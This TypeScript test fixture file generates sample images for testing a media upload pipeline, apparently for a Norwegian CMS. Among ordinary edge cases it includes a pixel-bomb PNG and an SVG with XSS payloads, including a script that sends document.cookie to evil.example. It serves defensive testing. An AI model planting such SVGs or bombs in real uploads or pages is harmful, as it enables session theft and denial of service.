import zlib from 'node:zlib'
import sharp from 'sharp'

/**
 * Test images built with sharp at run time, one per case the media pipeline must handle. Each
 * returns the bytes, the name an editor's browser would send and the type it would claim.
 */
export type Fixture = { data: Buffer; name: string; mimetype: string }

const solid = (width: number, height: number, background: string) =>
  sharp({ create: { width, height, channels: 3, background } })

export async function cmykJpeg(): Promise<Fixture> {
  const data = await solid(640, 480, '#c03020').toColourspace('cmyk').jpeg().toBuffer()
  return { data, name: 'trykk-cmyk.jpg', mimetype: 'image/jpeg' }
}

/** 600 × 400 stored sideways (EXIF orientation 6, so shown 400 × 600), with GPS and a camera. */
export async function rotatedPhotoWithGps(): Promise<Fixture> {
  const left = await solid(300, 400, '#ff0000').png().toBuffer()
  const data = await solid(600, 400, '#0000ff')
    .composite([{ input: left, left: 0, top: 0 }])
    .jpeg()
    .withExifMerge({
      IFD0: { Make: 'Testkamera', Model: 'GPS 1' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '59/1 57/1 0/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '9/1 58/1 0/1',
      },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer()
  return { data, name: 'mobil-gps.jpg', mimetype: 'image/jpeg' }
}

export async function pngWithAlpha(): Promise<Fixture> {
  const data = await sharp({
    create: {
      width: 500,
      height: 300,
      channels: 4,
      background: { r: 0, g: 80, b: 125, alpha: 0.4 },
    },
  })
    .png()
    .toBuffer()
  return { data, name: 'logo-gjennomsiktig.png', mimetype: 'image/png' }
}

export async function png16Bit(): Promise<Fixture> {
  const data = await solid(500, 300, '#336699').toColourspace('rgb16').png().toBuffer()
  return { data, name: 'skann-16bit.png', mimetype: 'image/png' }
}

/** Two frames: red, then blue. A still must show the red one. */
export async function animatedGif(): Promise<Fixture> {
  const frames = await Promise.all(
    ['#ff0000', '#0000ff'].map((colour) => solid(200, 100, colour).png().toBuffer()),
  )
  const data = await sharp(frames, { join: { animated: true } })
    .gif({ delay: [500, 500] })
    .toBuffer()
  return { data, name: 'animasjon.gif', mimetype: 'image/gif' }
}

function pngChunk(type: string, body: Buffer): Buffer {
  const head = Buffer.alloc(8)
  head.writeUInt32BE(body.length, 0)
  head.write(type, 4, 'latin1')
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(zlib.crc32(Buffer.concat([head.subarray(4), body])) >>> 0, 0)
  return Buffer.concat([head, body, crc])
}

/** A 300-byte PNG whose header claims 50,000 × 50,000 pixels (2.5 gigapixels). */
export function pixelBombPng(): Fixture {
  const ihdr = Buffer.alloc(13)
  ihdr.writeUInt32BE(50_000, 0)
  ihdr.writeUInt32BE(50_000, 4)
  ihdr.set([8, 2, 0, 0, 0], 8) // 8-bit RGB, deflate, no filter, no interlace
  const data = Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', zlib.deflateSync(Buffer.alloc(200))),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
  return { data, name: 'bombe.png', mimetype: 'image/png' }
}

export function textNamedJpg(): Fixture {
  return {
    data: Buffer.from('Dette er ikke et bilde, bare tekst med feil filendelse.\n'),
    name: 'ferie.jpg',
    mimetype: 'image/jpeg',
  }
}

export function svgWithScript(): Fixture {
  const svg = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="80" onload="alert(1)">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <rect width="120" height="80" fill="#00507d" onclick="alert(2)"/>
  <image href="https://evil.example/track.png" width="10" height="10"/>
  <a xlink:href="javascript:alert(3)"><circle cx="60" cy="40" r="20" fill="#f2b705"/></a>
  <use href="#x"/>
</svg>`
  return { data: Buffer.from(svg), name: 'kommunevapen.svg', mimetype: 'image/svg+xml' }
}

/** A real JPEG of noise larger than `megabytes`, for the size limit. */
export async function largeJpeg(megabytes: number): Promise<Fixture> {
  const side = Math.ceil(Math.sqrt(megabytes * 1024 * 1024 * 1.2))
  const data = await sharp({
    create: {
      width: side,
      height: side,
      channels: 3,
      background: '#000000',
      noise: { type: 'gaussian', mean: 128, sigma: 90 },
    },
  })
    .jpeg({ quality: 100 })
    .toBuffer()
  return { data, name: 'stort.jpg', mimetype: 'image/jpeg' }
}

export function formData(fixture: Fixture, fields: Record<string, unknown>): FormData {
  const form = new FormData()
  form.append(
    'file',
    new Blob([new Uint8Array(fixture.data)], { type: fixture.mimetype }),
    fixture.name,
  )
  form.append('_payload', JSON.stringify(fields))
  return form
}
